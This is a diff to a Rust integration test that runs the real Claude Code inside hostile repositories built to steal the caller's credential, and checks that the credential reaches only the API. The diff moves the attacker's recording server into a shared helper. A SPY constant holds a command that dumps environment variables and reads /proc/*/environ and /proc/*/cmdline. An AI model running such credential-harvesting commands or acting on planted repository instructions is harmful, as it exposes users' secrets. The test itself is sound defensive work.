@@ -1,51 +1,11 @@
 //! The caller's credential stays out of the task's reach. The real Claude Code runs in repositories whose files try to get
 //! it out, with the network on, so that only the proxy keeps it.
 
-use crate::support::{Rig, end, fresh, task_ended};
+use crate::support::{Rig, end, fresh, sink::Sink, task_ended};
 use fake_anthropic::sha256_hex;
 use integration_tests::{assert_absent, tool};
-use parking_lot::Mutex;
 use serde_json::{Value, json};
-use std::{
-    fs,
-    io::{Read as _, Write as _},
-    net::TcpListener,
-    path::PathBuf,
-    sync::Arc,
-    thread,
-    time::Duration,
-};
-
-/// A server of the attacker. It keeps what it receives, and answers everything with an error.
-struct Evil {
-    port: u16,
-    seen: Arc<Mutex<Vec<u8>>>,
-}
-
-impl Evil {
-    fn start() -> Self {
-        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-        let port = listener.local_addr().unwrap().port();
-        let seen = Arc::new(Mutex::new(Vec::new()));
-        let kept = Arc::clone(&seen);
-        thread::spawn(move || {
-            for stream in listener.incoming() {
-                let (mut stream, kept) = (stream.unwrap(), Arc::clone(&kept));
-                thread::spawn(move || {
-                    stream
-                        .set_read_timeout(Some(Duration::from_secs(1)))
-                        .unwrap();
-                    let mut bytes = vec![0; 65536];
-                    while let Ok(count @ 1..) = stream.read(&mut bytes) {
-                        kept.lock().extend_from_slice(&bytes[..count]);
-                    }
-                    let _ = stream.write_all(b"HTTP/1.1 500 no\r\ncontent-length: 0\r\n\r\n");
-                });
-            }
-        });
-        Self { port, seen }
-    }
-}
+use std::{fs, path::PathBuf};
 
 /// All that a process of the task can read: every environment, every argument, and every file of the task.
 const SPY: &str = "(env; cat /proc/*/environ /proc/*/cmdline; \
@@ -83,7 +43,7 @@ fn hostile(name: &str) -> &'static str {
 /// Runs the real Claude Code in a hostile repository. Asserts that the credential reached the API only.
 async fn attack(name: &str, field: &str) {
     let rig = Rig::new().await;
-    let evil = Evil::start();
+    let evil = Sink::start();
     let real = fs::canonicalize(tool("TKC_CLAUDE")).unwrap();
     let files = hostile(name).replace("EVIL", &evil.port.to_string());
     let script = format!(
